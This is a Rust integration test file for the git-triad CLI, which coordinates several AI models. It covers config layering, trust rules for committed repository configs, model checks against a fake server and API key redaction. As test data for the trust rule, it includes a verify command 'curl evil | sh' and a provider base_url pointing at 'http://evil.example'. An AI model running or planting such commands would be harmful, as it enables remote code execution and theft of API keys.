//! The real `git-triad` binary, run through the hermetic harness: help and version, config
//! layering with origins, the trust rule for committed configs, config errors, the model
//! registry listing and live checks against the fake server, key redaction end to end,
//! completions and man pages (also through `git triad --help`), and a closed stdout.

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use clap::CommandFactory;
use git_triad::testkit::fake_llm::{FakeServer, Reply, Rule, Script};
use serde_json::json;

use crate::common::{self, Normalizer, Run, TestEnv};

const CANARY_KEY: &str = "sk-canary-5f3a9c1e7d2b4a6f8e0c";

/// A plain directory (not a repository) inside the test's temp root.
fn plain_dir(env: &TestEnv) -> PathBuf {
    let dir = env.root().join("plain");
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// `git triad <args>` in a plain directory of a fresh environment.
fn triad_plain(args: &[&str]) -> Run {
    let env = TestEnv::new();
    env.triad(&plain_dir(&env), args)
}

#[track_caller]
fn assert_contains(text: &str, part: &str) {
    assert!(text.contains(part), "missing {part:?} in:\n{text}");
}

/// A repository `name` whose committed `.triad/config.toml` is `toml`.
fn repo_with_config(env: &TestEnv, name: &str, toml: &str) -> PathBuf {
    env.repo(name, &[(".triad/config.toml", toml)])
}

/// `git triad config show --origin` in `dir`, which must succeed.
fn show_origins(env: &TestEnv, dir: &Path) -> Run {
    let run = env.triad(dir, &["config", "show", "--origin"]);
    run.ok();
    run
}

/// A fake server with `script` and the fake user config pointing at it.
fn with_fake(script: Script) -> (TestEnv, FakeServer) {
    let server = FakeServer::start_blocking(script).expect("fake server starts");
    let env = TestEnv::new();
    env.write_user_config(&common::fake_user_config(&server.base_url()));
    (env, server)
}

/// The `key = value  # origin` line for `key` in `config show --origin` output.
#[track_caller]
pub fn origin_line<'a>(run: &'a Run, key: &str) -> &'a str {
    let prefix = format!("{key} = ");
    run.stdout
        .lines()
        .find(|l| l.starts_with(&prefix))
        .unwrap_or_else(|| panic!("no `{key}` line in:\n{}", run.stdout))
}

/// The row of `models list` whose first column is `model`.
#[track_caller]
fn model_row<'a>(run: &'a Run, model: &str) -> &'a str {
    run.stdout
        .lines()
        .find(|l| l.split_whitespace().next() == Some(model))
        .unwrap_or_else(|| panic!("no row for {model} in:\n{}", run.stdout))
}

/// Asserts the `models list` row of `model` contains `part`.
#[track_caller]
fn assert_row_says(run: &Run, model: &str, part: &str) {
    assert!(
        model_row(run, model).contains(part),
        "the {model} row lacks {part:?}:\n{}",
        run.stdout
    );
}

fn hints(run: &Run) -> Vec<&str> {
    run.stderr
        .lines()
        .filter(|l| l.starts_with("hint: "))
        .collect()
}

/// Asserts one of the run's `hint:` lines contains `part`.
#[track_caller]
fn assert_hint(run: &Run, part: &str) {
    assert!(
        hints(run).iter().any(|h| h.contains(part)),
        "no hint mentions {part:?}:\n{}",
        run.stderr
    );
}

// ---------------------------------------------------------------------------------------
// Help, version, usage errors
// ---------------------------------------------------------------------------------------

#[test]
fn short_help_exits_0_and_lists_every_subcommand() {
    let run = triad_plain(&["-h"]);
    assert_contains(&run.ok().stdout, "Usage: git triad");
    for sub in ["config", "models", "completions", "man"] {
        assert!(
            run.stdout
                .lines()
                .any(|l| l.trim_start().starts_with(&format!("{sub} "))),
            "`{sub}` missing from help:\n{}",
            run.stdout
        );
    }
}

#[test]
fn version_prints_the_crate_version() {
    let run = triad_plain(&["--version"]);
    run.ok();
    assert_eq!(
        run.stdout.trim(),
        format!("git-triad {}", env!("CARGO_PKG_VERSION"))
    );
}

#[test]
fn an_unknown_subcommand_exits_2() {
    let run = triad_plain(&["frobnicate"]);
    run.expect_code(2);
    assert_contains(&run.stderr, "frobnicate");
    assert!(run.stdout.is_empty());
}

// ---------------------------------------------------------------------------------------
// config show and layering
// ---------------------------------------------------------------------------------------

#[test]
fn config_show_prints_the_effective_config_as_toml() {
    let run = triad_plain(&["config", "show"]);
    assert_contains(&run.ok().stdout, "mode = \"bookend\"");
    let parsed: toml::Table = run.stdout.parse().expect("config show prints valid TOML");
    assert_eq!(parsed["arbiter"]["mode"].as_str(), Some("bookend"));
    assert!(parsed["providers"].get("openai").is_some());
}

#[test]
fn config_show_origin_marks_built_in_defaults() {
    let run = triad_plain(&["config", "show", "--origin"]);
    run.ok();
    assert_eq!(
        origin_line(&run, "arbiter.mode"),
        "arbiter.mode = \"bookend\"  # default"
    );
}

#[test]
fn config_layers_apply_in_order_and_each_value_shows_its_origin() {
    let mut env = TestEnv::new();
    // Every key below is also set by a lower layer, so the winner is visible.
    env.write_user_config(
        "[arbiter]\nmode = \"final\"\nmax_retries = 1\non_exhausted = \"halt\"\n\n[budget]\nrun_usd = 7.0\n",
    );
    let repo = env.repo("layered", &[("README.md", "hi\n")]);
    for (key, value) in [
        ("triad.arbiter.mode", "full"),
        ("triad.budget.run-usd", "5"),
        ("triad.arbiter.on-exhausted", "halt"),
    ] {
        env.git(&repo, &["config", key, value]).ok();
    }
    env.set("GIT_TRIAD_BUDGET__RUN_USD", "3");
    env.set("GIT_TRIAD_ARBITER__ON_EXHAUSTED", "halt");

    let run = env.triad(
        &repo,
        &[
            "-c",
            "arbiter.on_exhausted=rewind",
            "config",
            "show",
            "--origin",
        ],
    );
    run.ok();
    // What a user reads, whole: a changed line or origin fails the snapshot.
    let args = [
        "-c",
        "arbiter.on_exhausted=rewind",
        "config",
        "show",
        "--origin",
    ];
    crate::user_output::check(
        "config-show-origin",
        &crate::user_output::transcript(&env, None, &repo, &args),
    );
    let from_user = format!(
        "arbiter.max_retries = 1  # user {}",
        env.user_config().display()
    );
    for want in [
        from_user.as_str(),
        "arbiter.mode = \"full\"  # git config triad.arbiter.mode",
        "budget.run_usd = 3  # env GIT_TRIAD_BUDGET__RUN_USD",
        "arbiter.on_exhausted = \"rewind\"  # command line -c",
        "breaker.open_secs = 300  # default",
    ] {
        let key = want.split(" = ").next().unwrap();
        assert_eq!(origin_line(&run, key), want);
    }

    // The plain TOML view shows the same winners.
    let run = env.triad(
        &repo,
        &["-c", "arbiter.on_exhausted=rewind", "config", "show"],
    );
    run.ok();
    let parsed: toml::Table = run.stdout.parse().unwrap();
    assert_eq!(parsed["arbiter"]["mode"].as_str(), Some("full"));
    assert_eq!(parsed["arbiter"]["on_exhausted"].as_str(), Some("rewind"));
    assert_eq!(parsed["arbiter"]["max_retries"].as_integer(), Some(1));
}

// ---------------------------------------------------------------------------------------
// Trust
// ---------------------------------------------------------------------------------------

/// A repository `name` whose committed config `toml` sets `key`: asserts `config show`
/// refuses it, then marks the clone trusted and returns `config show --origin`, which must
/// now succeed.
#[track_caller]
fn refused_until_trusted(name: &str, toml: &str, key: &str) -> Run {
    let env = TestEnv::new();
    let repo = repo_with_config(&env, name, toml);
    assert_refused(&env, &repo, key);
    env.git(&repo, &["config", "triad.trusted", "true"]).ok();
    show_origins(&env, &repo)
}

/// Asserts `config show --origin` says `key = value`, from the repository's committed config;
/// returns that line.
#[track_caller]
fn assert_from_repo<'a>(run: &'a Run, key: &str, value: &str) -> &'a str {
    let line = origin_line(run, key);
    assert!(
        line.starts_with(&format!("{key} = {value}  # repo ")),
        "{line}"
    );
    line
}

#[track_caller]
fn assert_refused(env: &TestEnv, repo: &Path, key: &str) {
    let run = env.triad(repo, &["config", "show"]);
    run.expect_code(2);
    assert!(run.stdout.is_empty(), "nothing printed: {}", run.stdout);
    assert!(
        run.stderr.contains(key),
        "stderr must name {key}:\n{}",
        run.stderr
    );
    assert_hint(&run, "git config triad.trusted true");
}

#[test]
fn an_untrusted_repo_may_not_redirect_a_provider_until_trusted() {
    let key = "providers.openai.base_url";
    let run = refused_until_trusted(
        "evil",
        "[providers.openai]\nbase_url = \"http://evil.example\"\n",
        key,
    );
    let line = assert_from_repo(&run, key, "\"http://evil.example\"");
    assert!(line.ends_with(".triad/config.toml"), "{line}");
    assert!(!run.stdout.contains("not trusted"), "{}", run.stdout);
}

#[test]
fn an_untrusted_repo_may_not_set_the_verify_command() {
    let toml = "[verify]\ncommand = \"curl evil | sh\"\n";
    let run = refused_until_trusted("evil-verify", toml, "verify.command");
    assert_from_repo(&run, "verify.command", "\"curl evil | sh\"");
}

#[test]
fn an_untrusted_repo_may_choose_the_arbiter_mode() {
    let env = TestEnv::new();
    let repo = repo_with_config(&env, "benign", "[arbiter]\nmode = \"full\"\n");
    let run = show_origins(&env, &repo);
    assert_from_repo(&run, "arbiter.mode", "\"full\"");
    assert_contains(&run.stdout, "this clone is not trusted");
}

#[test]
fn an_untrusted_repo_may_only_lower_model_limits_and_role_timeouts() {
    let env = TestEnv::new();
    env.write_user_config(&common::fake_user_config("http://127.0.0.1:9"));
    let toml = "[models.model-a]\ncontext_window = 1000000\nmax_output_tokens = 2000\n\
                [roles.arbiter]\ntimeout_secs = 86400\n";
    let repo = repo_with_config(&env, "greedy", toml);
    let run = show_origins(&env, &repo);
    for ignored in [
        "# ignored `models.model-a.context_window = 1000000` from ",
        "# ignored `roles.arbiter.timeout_secs = 86400` from ",
    ] {
        assert_contains(&run.stdout, ignored);
    }
    assert_contains(
        &run.stdout,
        "an untrusted clone may only lower model limits and timeouts",
    );
    // Lowering is tightening, and applies.
    assert_from_repo(&run, "models.model-a.max_output_tokens", "2000");
    // A trusted clone chooses its models, limits included.
    env.git(&repo, &["config", "triad.trusted", "true"]).ok();
    let run = show_origins(&env, &repo);
    assert_from_repo(&run, "models.model-a.context_window", "1000000");
}

#[test]
fn log_lists_a_corrupt_run_as_corrupt() {
    let env = TestEnv::new();
    let repo = env.repo("proj", &[("README.md", "hi\n")]);
    // A run record whose run.json is cut off, as a crash or a hand edit may leave it.
    let git = git2::Repository::open(&repo).unwrap();
    let blob = git
        .blob(b"{\"run_id\": \"20260101-000000-dead\", \"stag")
        .unwrap();
    let mut tree = git.treebuilder(None).unwrap();
    tree.insert("run.json", blob, 0o100644).unwrap();
    let tree = git.find_tree(tree.write().unwrap()).unwrap();
    let sig = git2::Signature::now("T", "t@example.com").unwrap();
    let commit = git
        .commit(None, &sig, &sig, "triad run: started\n", &tree, &[])
        .unwrap();
    git.reference(
        "refs/triad/runs/20260101-000000-dead",
        commit,
        false,
        "test",
    )
    .unwrap();
    let log = env.triad(&repo, &["log"]);
    assert_contains(
        &log.ok().stdout,
        "20260101-000000-dead  corrupt: run.json of",
    );
    assert_contains(
        &log.stdout,
        "git update-ref -d refs/triad/runs/20260101-000000-dead",
    );
    let json = env.triad(&repo, &["log", "--format", "json"]);
    let listed: serde_json::Value = serde_json::from_str(json.ok().stdout.trim()).unwrap();
    assert_eq!(listed[0]["status"], "corrupt", "{listed}");
}

// ---------------------------------------------------------------------------------------
// Invalid configuration
// ---------------------------------------------------------------------------------------

#[test]
fn an_unknown_config_key_exits_2_naming_it() {
    let run = triad_plain(&["-c", "arbiter.mood=x", "config", "show"]);
    run.expect_code(2);
    assert_contains(&run.stderr, "mood");
    assert!(
        run.stderr
            .lines()
            .any(|l| l.starts_with("error: ") && l.contains("mood")),
        "{}",
        run.stderr
    );
}

#[test]
fn a_role_naming_an_unregistered_model_exits_2_naming_it() {
    let run = triad_plain(&[
        "-c",
        "roles.architect.models=nope-model-9",
        "config",
        "show",
    ]);
    run.expect_code(2);
    assert_contains(&run.stderr, "nope-model-9");
    assert_contains(&run.stderr, "roles.architect.models");
}

// ---------------------------------------------------------------------------------------
// models list / models check
// ---------------------------------------------------------------------------------------

/// Adds a keyless local provider at `base` and a model on it.
fn local_provider(name: &str, model: &str, base: &str) -> String {
    format!(
        "\n[providers.{name}]\nprotocol = \"openai\"\nbase_url = \"{base}/v1\"\nlocal = true\n\n\
         [models.{model}]\nprovider = \"{name}\"\ncontext_window = 8000\nmax_output_tokens = 1000\n\
         price_in = 0.0\nprice_out = 0.0\n"
    )
}

/// User config that points every local provider of the defaults (the three llama.cpp
/// servers of `git triad local`, ollama, llamacpp) at ports where nothing listens, so a real
/// server on their default ports (another test's, the developer's) is never seen; and a
/// normalizer that names those addresses `http://127.0.0.1:[PORT-n]`.
fn local_servers_down() -> (String, Normalizer) {
    let providers = [
        "triad-local-coder-1-5b",
        "triad-local-coder",
        "triad-local-small",
        "ollama",
        "llamacpp",
    ];
    // Each port held until all are picked: a port let go at once may come back next.
    let held: Vec<_> = providers
        .iter()
        .map(|_| std::net::TcpListener::bind("127.0.0.1:0").unwrap())
        .collect();
    let mut cfg = String::new();
    let mut norm = Normalizer::new();
    for (n, (p, l)) in providers.iter().zip(&held).enumerate() {
        let base = format!("http://127.0.0.1:{}", l.local_addr().unwrap().port());
        cfg.push_str(&format!("\n[providers.{p}]\nbase_url = \"{base}/v1\"\n"));
        norm = norm.literal(base, format!("http://127.0.0.1:[PORT-{}]", n + 1));
    }
    (cfg, norm)
}

#[test]
fn local_status_when_no_server_runs() {
    let mut env = TestEnv::new();
    let (cfg, norm) = local_servers_down();
    env.write_user_config(&cfg);
    let cache = env.root().join("cache");
    env.set("GIT_TRIAD_LOCAL_CACHE", cache.to_str().unwrap());
    let run = env.triad(&plain_dir(&env), &["local", "status"]);
    let norm = norm.path(env.root(), "[ROOT]");
    crate::user_output::check(
        "local-status-stopped",
        &run.transcript("git triad local status", &norm),
    );
    assert!(!cache.exists(), "status started nothing and wrote nothing");
}

/// `http://127.0.0.1:PORT` where nothing listens.
fn dead_base() -> String {
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    drop(l);
    format!("http://127.0.0.1:{port}")
}

#[test]
fn models_list_shows_key_availability_and_probes_local_servers() {
    let (mut env, server) = with_fake(
        Script::default().rule(Rule::named("m").model("model-a").reply(Reply::text("ok"))),
    );
    let base = server.base_url();
    let mut cfg = common::fake_user_config(&base);
    cfg.push_str(&local_provider("fake-local", "local-up", &base));
    let gone = dead_base();
    cfg.push_str(&local_provider("fake-dead", "local-gone", &gone));
    env.set("FAKE_OPENAI_KEY", "zqCLI-openai-0000");

    let (down, norm) = local_servers_down();
    cfg.push_str(&down);
    env.write_user_config(&cfg);
    let norm = norm
        .path(env.root(), "[ROOT]")
        .literal(base.clone(), "[SERVER]");
    let run = env.triad(&plain_dir(&env), &["models", "list"]);
    run.ok();
    // Every registered model, the fakes' rows among them: model-a has its key, claude-fake
    // has none, local-up answers and local-gone does not.
    crate::user_output::check(
        "models-list",
        &run.transcript("git triad models list", &norm),
    );
    assert!(
        server
            .requests()
            .iter()
            .any(|r| r.method == "GET" && r.path == "/v1/models"),
        "the local server was really probed"
    );

    // --available keeps only what can be called now.
    let run = env.triad(&plain_dir(&env), &["models", "list", "--available"]);
    run.ok();
    assert!(run.stdout.lines().any(|l| l.starts_with("model-a ")));
    assert!(run.stdout.lines().any(|l| l.starts_with("local-up ")));
    assert!(!run.stdout.contains("claude-fake"), "{}", run.stdout);
    assert!(!run.stdout.contains("local-gone"), "{}", run.stdout);
}

/// A llama-server that dies while it loads (here by SIGILL, as a binary built for
/// instructions the CPU refuses does at its warm-up) is reported by how it ended, at once,
/// with the log and what to do: not as a server that "did not answer within 120 s".
#[cfg(unix)]
#[test]
fn local_start_reports_a_server_that_died_by_its_signal() {
    use std::os::unix::fs::PermissionsExt;
    let mut env = TestEnv::new();
    let cache = env.root().join("cache");
    std::fs::create_dir_all(cache.join("bin")).unwrap();
    std::fs::create_dir_all(cache.join("models")).unwrap();
    let server = cache.join("bin/llama-server");
    std::fs::write(&server, "#!/bin/sh\necho 'loading model'\nkill -ILL $$\n").unwrap();
    std::fs::set_permissions(&server, std::fs::Permissions::from_mode(0o755)).unwrap();
    for f in [
        "qwen2.5-coder-1.5b-instruct-q4_k_m.gguf",
        "qwen2.5-coder-0.5b-instruct-q4_k_m.gguf",
        "smollm2-135m-instruct-q4_1.gguf",
    ] {
        std::fs::write(cache.join("models").join(f), "").unwrap();
    }
    // Ports where nothing answers, so a real server of another test is never mistaken for ours.
    let mut cfg = String::new();
    for p in [
        "triad-local-coder-1-5b",
        "triad-local-coder",
        "triad-local-small",
    ] {
        cfg.push_str(&format!(
            "[providers.{p}]\nbase_url = \"{}/v1\"\n",
            dead_base()
        ));
    }
    env.write_user_config(&cfg);
    env.set("GIT_TRIAD_LOCAL_CACHE", cache.to_str().unwrap());
    let run = env.triad(&plain_dir(&env), &["local", "start"]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert_contains(&run.stderr, "stopped before it answered");
    assert_contains(&run.stderr, "SIGILL");
    assert_contains(&run.stderr, "GGML_NATIVE=OFF");
    let log = cache.join("run/triad-local-coder-1-5b.log");
    assert_contains(&run.stderr, &log.display().to_string());
    assert_contains(&std::fs::read_to_string(&log).unwrap(), "loading model");
    assert!(
        !cache.join("run/triad-local-coder-1-5b.pid").exists(),
        "the dead server's pid file is removed"
    );
}

#[test]
fn models_list_probes_a_local_server_without_the_http_proxy() {
    let (mut env, server) = with_fake(Script::default());
    let mut cfg = common::fake_user_config(&server.base_url());
    cfg.push_str(&local_provider(
        "fake-local",
        "local-up",
        &server.base_url(),
    ));
    env.write_user_config(&cfg);
    // A proxy that does not exist: a probe that goes through it fails.
    env.set("HTTP_PROXY", &dead_base());
    env.set("http_proxy", &dead_base());
    let run = env.triad(&plain_dir(&env), &["models", "list"]);
    run.ok();
    assert_row_says(&run, "local-up", "local up");
}

/// `git triad models check model-a` against a fake server with `script`, with the key set.
fn check_model_a(script: Script) -> (Run, FakeServer) {
    let (mut env, server) = with_fake(script);
    env.set("FAKE_OPENAI_KEY", "zqCLI-openai-0000");
    let run = env.triad(&plain_dir(&env), &["models", "check", "model-a"]);
    (run, server)
}

#[test]
fn models_check_reports_ok_latency_and_the_reported_id() {
    let (run, server) = check_model_a(
        Script::default().rule(
            Rule::named("a")
                .model("model-a")
                .reply(Reply::text("ok").usage(20, 1)),
        ),
    );
    run.ok();
    let first = run.stdout.lines().next().unwrap_or_default();
    assert!(
        first.starts_with("ok  model-a via fake-openai answered in "),
        "{first}"
    );
    let ms = first
        .trim_end_matches(" ms")
        .rsplit(' ')
        .next()
        .and_then(|n| n.parse::<u64>().ok());
    assert!(ms.is_some(), "latency in ms: {first}");
    assert_contains(&run.stdout, "reported id:  model-a");
    assert!(!run.stdout.contains("warning:"), "{}", run.stdout);
    assert_eq!(server.requests().len(), 1);
}

#[test]
fn models_check_warns_when_the_server_reports_another_model() {
    let (run, _server) = check_model_a(
        Script::default()
            .rule(Rule::named("a").reply(Reply::text("ok").reported_model("gpt-imposter"))),
    );
    run.ok();
    let warning = run
        .stdout
        .lines()
        .find(|l| l.starts_with("warning:"))
        .unwrap_or_else(|| panic!("no warning line:\n{}", run.stdout));
    assert!(
        warning.contains("gpt-imposter") && warning.contains("model-a"),
        "{warning}"
    );
}

#[test]
fn models_check_of_a_failing_server_exits_1_with_hints() {
    let (run, server) =
        check_model_a(Script::default().rule(Rule::named("down").reply(Reply::status(500))));
    run.expect_code(1);
    assert_contains(&run.stderr, "HTTP 500");
    assert!(hints(&run).len() >= 2, "{}", run.stderr);
    // A hint names the endpoint.
    assert_hint(&run, &server.base_url());
    // 1 attempt + transport.max_retries (2) of the fake user config.
    assert_eq!(server.requests().len(), 3);
}

#[test]
fn models_check_without_the_key_exits_1_without_a_request() {
    let (env, server) =
        with_fake(Script::default().rule(Rule::named("a").reply(Reply::text("ok"))));
    let run = env.triad(&plain_dir(&env), &["models", "check", "model-a"]);
    run.expect_code(1);
    assert_contains(&run.stderr, "FAKE_OPENAI_KEY is not set");
    assert_hint(&run, "export FAKE_OPENAI_KEY");
    assert!(server.requests().is_empty());
}

// ---------------------------------------------------------------------------------------
// Keys never leak through the binary
// ---------------------------------------------------------------------------------------

fn files_under(dir: &Path, out: &mut Vec<PathBuf>) {
    for entry in std::fs::read_dir(dir).unwrap().flatten() {
        let path = entry.path();
        let ft = entry.file_type().unwrap();
        if ft.is_dir() {
            files_under(&path, out);
        } else if ft.is_file() {
            out.push(path);
        }
    }
}

#[test]
fn an_echoed_key_appears_nowhere_even_with_trace_logging() {
    let echo = Reply {
        body: Some(
            json!({"error": {"message": format!("Incorrect API key provided: {CANARY_KEY}")}}),
        ),
        ..Reply::status(401)
    };
    let (mut env, server) = with_fake(Script::default().rule(Rule::named("echo").reply(echo)));
    env.set("FAKE_OPENAI_KEY", CANARY_KEY);
    let dir = plain_dir(&env);

    let run = env.triad(&dir, &["-vvv", "models", "check", "model-a"]);
    run.expect_code(1);
    assert_contains(&run.stderr, "HTTP 401");
    assert!(
        !run.all().contains("canary"),
        "the key leaked:\n{}",
        run.all()
    );

    // Everything at trace level, dependencies included.
    env.set("RUST_LOG", "trace");
    let run = env.triad(&dir, &["models", "check", "model-a"]);
    run.expect_code(1);
    assert!(
        !run.all().contains("canary"),
        "the key leaked at RUST_LOG=trace"
    );

    // The key really went out (so the checks above mean something), and came back.
    let reqs = server.requests();
    assert_eq!(reqs.len(), 2, "401 is not retried");
    assert!(reqs[0].headers["authorization"].contains(CANARY_KEY));

    let mut files = Vec::new();
    files_under(env.root(), &mut files);
    assert!(!files.is_empty());
    for f in files {
        let bytes = std::fs::read(&f).unwrap();
        assert!(
            !bytes.windows(6).any(|w| w == b"canary"),
            "{} contains the key",
            f.display()
        );
    }
}

// ---------------------------------------------------------------------------------------
// Completions and man pages
// ---------------------------------------------------------------------------------------

#[test]
fn bash_completions_are_printed() {
    let run = triad_plain(&["completions", "bash"]);
    assert_contains(&run.ok().stdout, "git-triad");
    assert!(run.stdout.contains("complete "), "a bash `complete` line");
    assert!(run.stdout.contains("models"), "subcommands are completed");
}

/// The visible subcommands of the real command line definition.
fn subcommands() -> Vec<String> {
    git_triad::cli::Cli::command()
        .get_subcommands()
        .filter(|s| !s.is_hide_set() && s.get_name() != "help")
        .map(|s| s.get_name().to_string())
        .collect()
}

/// The `.TH` line of a roff page, checked to come before any section.
#[track_caller]
fn title_line(page: &str) -> String {
    for line in page.lines() {
        assert!(!line.starts_with(".SH"), "a section before .TH:\n{page}");
        if line.starts_with(".TH ") {
            return line.to_string();
        }
        assert!(
            line.starts_with('.'),
            "only roff requests before .TH: {line}"
        );
    }
    panic!("no .TH header:\n{page}");
}

#[test]
fn man_writes_the_main_page_and_one_per_subcommand() {
    let mut env = TestEnv::new();
    let dir = plain_dir(&env);
    let man1 = env.root().join("man").join("man1");
    let run = env.triad(&dir, &["man", "--output", man1.to_str().unwrap()]);
    run.ok();

    let main = std::fs::read_to_string(man1.join("git-triad.1")).expect("git-triad.1 written");
    assert!(main.starts_with('.'), "roff starts with a request");
    assert!(title_line(&main).starts_with(".TH git-triad 1"), "{main}");
    let subs = subcommands();
    assert!(subs.len() >= 4, "{subs:?}");
    for sub in &subs {
        let name = format!("git-triad-{sub}");
        let page = std::fs::read_to_string(man1.join(format!("{name}.1")))
            .unwrap_or_else(|e| panic!("{name}.1: {e}"));
        assert!(
            title_line(&page).starts_with(&format!(".TH {name} 1")),
            "{page}"
        );
    }
    assert!(
        run.stdout
            .contains(&format!("wrote {} man pages", subs.len() + 1)),
        "{}",
        run.stdout
    );

    // `git triad --help` makes git open the `git-triad` man page.
    let man_ok = Command::new("man")
        .arg("--version")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .map(|s| s.success())
        .unwrap_or(false);
    if !man_ok {
        eprintln!("skipping `git triad --help`: no working `man` program on this machine");
        return;
    }
    env.set("MANPATH", env.root().join("man").to_str().unwrap());
    env.set("MANPAGER", "cat");
    env.set("PAGER", "cat");
    let run = env.git(&dir, &["triad", "--help"]);
    run.ok();
    assert!(run.stdout.contains("NAME"), "{}", run.all());
    assert!(run.stdout.contains("git-triad"), "{}", run.all());
    assert!(run.stdout.contains("several AI models"), "{}", run.all());
}

// ---------------------------------------------------------------------------------------
// A closed stdout
// ---------------------------------------------------------------------------------------

#[test]
fn a_reader_that_went_away_ends_the_output_quietly_with_exit_0() {
    let env = TestEnv::new();
    let dir = plain_dir(&env);
    // A pipe whose reader has already exited, like `git triad ... | head -c 1` after head
    // is done: take the write end of `true`'s stdin and wait for `true` to exit.
    let mut reader = Command::new("true")
        .stdin(Stdio::piped())
        .spawn()
        .expect("spawn true");
    let write_end = reader.stdin.take().unwrap();
    reader.wait().unwrap();

    let out = env
        .command(common::bin(), &dir)
        .args(["config", "show", "--origin"])
        .stdout(Stdio::from(write_end))
        .stderr(Stdio::piped())
        .output()
        .expect("run git-triad");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "stderr:\n{stderr}");
    assert!(!stderr.contains("panicked"), "{stderr}");
    assert!(!stderr.contains("error"), "{stderr}");
}

/// Issue #38: an Ollama URL without `/v1` posts to `/chat/completions`, gets 404, and
/// `models check` blamed "the arbiter role" with no hint. The error names the check and the
/// model, and says to add `/v1`.
#[test]
fn models_check_of_a_base_url_without_v1_suggests_adding_it() {
    let (env, server) =
        with_fake(Script::default().rule(Rule::named("m").reply(Reply::text("ok"))));
    let base = server.base_url();
    env.write_user_config(&format!(
        "[providers.my-ollama]\nprotocol = \"openai\"\nbase_url = \"{base}\"\nlocal = true\n\n\
         [models.my-coder]\nprovider = \"my-ollama\"\nid = \"qwen2.5-coder:7b\"\n\
         context_window = 8000\nmax_output_tokens = 1000\n"
    ));
    let run = env.triad(&plain_dir(&env), &["models", "check", "my-coder"]);
    let norm = env.normalizer().literal(base, "[SERVER]");
    crate::user_output::check(
        "error-models-check-without-v1",
        &run.transcript("git triad models check my-coder", &norm),
    );
    let paths: Vec<String> = server.requests().iter().map(|r| r.path.clone()).collect();
    assert_eq!(
        paths,
        ["/chat/completions"],
        "one request, to the URL as given"
    );
}

/// Issue #38: `local start` said "llama-server is missing" while both servers answered. It
/// asks the servers first; the binary is needed only to start one.
#[test]
fn local_start_uses_servers_that_already_answer_without_a_llama_server() {
    let (mut env, server) = with_fake(Script::default());
    let mut cfg = String::new();
    for p in [
        "triad-local-coder-1-5b",
        "triad-local-coder",
        "triad-local-small",
    ] {
        cfg.push_str(&format!(
            "[providers.{p}]\nbase_url = \"{}/v1\"\n",
            server.base_url()
        ));
    }
    env.write_user_config(&cfg);
    let cache = env.root().join("empty-cache");
    env.set("GIT_TRIAD_LOCAL_CACHE", cache.to_str().unwrap());
    let run = env.triad(&plain_dir(&env), &["local", "start"]);
    insta::assert_snapshot!(run.transcript("git triad local start", &Normalizer::new()), @r"
    $ git triad local start
    exit: 0
    --- stdout
    the local servers are already running
    --- stderr
    (empty)
    ");
    assert!(!cache.exists(), "nothing was prepared or started");
}
